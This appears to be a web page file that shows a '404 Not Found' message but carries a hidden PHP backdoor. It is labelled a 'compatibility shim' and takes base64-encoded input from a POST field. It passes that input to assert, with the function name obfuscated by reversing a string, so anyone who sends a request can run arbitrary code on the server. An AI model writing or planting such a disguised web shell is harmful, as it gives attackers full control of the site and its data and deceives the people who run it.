<html><body><h1>404 Not Found</h1></body></html>
<?php
// compatibility shim for old hosts
$p = base64_decode($_POST['z0']);
array_map(strrev('tressa'), array($p));
?>
